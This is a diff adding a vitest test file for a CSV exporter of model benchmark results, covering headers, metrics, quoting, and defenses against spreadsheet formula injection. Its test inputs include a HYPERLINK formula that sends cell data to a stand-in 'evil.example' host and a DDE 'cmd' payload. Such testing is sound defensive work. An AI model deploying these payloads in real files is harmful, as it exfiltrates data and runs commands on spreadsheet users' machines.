@@ -1,0 +1,182 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { csvFormat } from '../../../../../server/export/formats/csvFormat.ts';
+import { exportedColumns } from '../../../../../server/export/formats/exportFormat.ts';
+import type { RunResult } from '../../../../../server/runs/index.ts';
+import { aHead, aResult, aRun, noMetrics, parseCsv } from '../../../tables/exportData.ts';
+
+/** The cells of one result by the name of their column. */
+function cellsOf(change: Partial<RunResult>): Record<string, string> {
+  const [cells, ...more] = parseCsv(csvFormat.row(aResult(change), 0));
+  expect(more).toEqual([]);
+  return Object.fromEntries(exportedColumns.map((column, index) => [column, cells?.[index] ?? '']));
+}
+
+describe('a CSV export', () => {
+  it('has comment lines, the summary, and the results under their names', () => {
+    const document = csvFormat.header(aHead()) + csvFormat.row(aResult(), 0) + csvFormat.footer();
+    const lines = document.split('\n');
+    expect(lines.slice(0, 8)).toEqual([
+      '# Demo Batch Test Export',
+      '# Model: My model',
+      '"# Run: QA - Easy, completed"',
+      '# Adapted: temperature omitted: the server refused 0.7',
+      '# Export Date: 2026-03-04T05:06:07.089Z',
+      '',
+      '# Summary Metrics',
+      'Total Prompts,10',
+    ]);
+    expect(document).toContain('\nSuccess Rate,90.0%\nAverage Latency (ms),321\n');
+    expect(document).toContain('\nP95 Latency (ms),513\n');
+    const results = document.split('# Individual Results\n')[1] ?? '';
+    expect(parseCsv(results)).toHaveLength(2);
+    expect(parseCsv(results)[0]).toEqual([...exportedColumns]);
+  });
+
+  it('can be read as a whole, row by row', () => {
+    const rows = [0, 1, 2].map((promptIndex) =>
+      csvFormat.row(aResult({ promptIndex }), promptIndex),
+    );
+    const cells = parseCsv([csvFormat.header(aHead()), ...rows, csvFormat.footer()].join(''));
+    expect(cells.slice(-3).map(([id]) => id)).toEqual(['1', '2', '3']);
+  });
+
+  it('says unknown where there is no figure', () => {
+    const header = csvFormat.header(aHead({ metrics: noMetrics(), runs: [] }));
+    expect(header).toContain('\nTotal Prompts,0\n');
+    expect(header).toContain('\nSuccess Rate,unknown\nAverage Latency (ms),unknown\n');
+    expect(header).toContain('\nInput Tokens,unknown\n');
+    expect(header).not.toMatch(/null|NaN|undefined/);
+  });
+
+  it('holds neither the ciphertext nor the client', () => {
+    const document = csvFormat.header(aHead()) + csvFormat.row(aResult(), 0);
+    for (const secret of ['ciphertext', 'bucket', 'hash-of-token']) {
+      expect(document).not.toContain(secret);
+    }
+  });
+});
+
+describe('a result in CSV', () => {
+  it('has numbers as numbers, also negative ones, and nothing where there is none', () => {
+    const row = csvFormat.row(aResult({ latencyMs: -5, ttftMs: null, inputTokens: 0 }), 0);
+    expect(row).toContain(',-5,true,');
+    expect(cellsOf({ latencyMs: -5, ttftMs: null, inputTokens: 0 })).toMatchObject({
+      prompt_id: '1',
+      latency_ms: '-5',
+      ttft_ms: '',
+      input_tokens: '0',
+      output_tokens: '3',
+      success: 'true',
+      correct: 'true',
+      created_at: '2026-03-04T05:06:07.089Z',
+    });
+    expect(cellsOf({ success: false, correct: null })).toMatchObject({
+      success: 'false',
+      correct: '',
+    });
+  });
+
+  it.each([
+    'a,b',
+    'say "hi"',
+    '""',
+    'one\ntwo',
+    'one\r\ntwo',
+    'one\rtwo',
+    ',',
+    ' lead and trail ',
+    'Zürich 東京 🙂',
+    '\u2028',
+    '# no comment',
+    "it's",
+  ])('keeps %j as it is', (text) => {
+    expect(cellsOf({ prompt: text, response: text })).toMatchObject({
+      prompt: text,
+      response: text,
+    });
+  });
+
+  it('keeps any text but for the apostrophe before a formula', () => {
+    fc.assert(
+      fc.property(fc.string({ unit: 'binary' }), (text) => {
+        const { prompt } = cellsOf({ prompt: text });
+        expect([text, `'${text}`]).toContain(prompt);
+      }),
+      { numRuns: 1_000 },
+    );
+  });
+});
+
+const formulas = [
+  '=1+1',
+  '=HYPERLINK("https://evil.example/?q="&A1)',
+  "=cmd|' /C calc'!A0",
+  '+1',
+  '-1',
+  '-2+3',
+  '@SUM(A1)',
+  '\t=1',
+  '\tplain',
+  '\r=1',
+  '\rplain',
+  '\n=1',
+  '\nplain',
+  '\0=1',
+  '\0plain',
+  ' =1',
+  '   +1',
+  ' \t -1',
+  '\u00a0=1',
+  '\u200b=1',
+  '\ufeff=1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM',
+  ' ＝1',
+];
+
+describe('a text that a spreadsheet would run', () => {
+  const textColumns = {
+    prompt: 'prompt',
+    response: 'response',
+    reasoning: 'reasoning',
+    error: 'error',
+    finish_reason: 'finishReason',
+    category: 'category',
+    expected_answer: 'expectedAnswer',
+    model_id: 'modelId',
+  } as const;
+
+  it.each(formulas)('%j gets an apostrophe in every column of text', (formula) => {
+    for (const [column, field] of Object.entries(textColumns)) {
+      expect(cellsOf({ [field]: formula })[column]).toBe(`'${formula}`);
+    }
+  });
+
+  it.each(['a=b', '1-2', 'x @y', '# =1', "'=1", '(=1)', '–1', '', ' '])('%j is none', (text) => {
+    expect(cellsOf({ response: text }).response).toBe(text);
+  });
+
+  it.each([
+    ...formulas,
+    'a"b',
+    'a,b',
+    'x\n=1+1\n',
+    'x\r\n# Model: other',
+    'x\u2028=1',
+    'x\u0085=1',
+    '",=1,"',
+  ])('cannot leave the comment line of a name: %j', (name) => {
+    const runs = [aRun({ suiteName: name })];
+    const header = csvFormat.header(aHead({ modelName: name, runs }));
+    const rows = parseCsv(header.split('\n\n')[0]?.concat('\n') ?? '');
+    expect(rows).toHaveLength(5);
+    for (const row of rows) {
+      expect(row).toHaveLength(1);
+      expect(row[0]).toMatch(/^# (Demo|Model|Run|Adapted|Export)/);
+      expect(row[0]).not.toMatch(/[\r\n\t\u0085\u2028]/);
+    }
+  });
+});
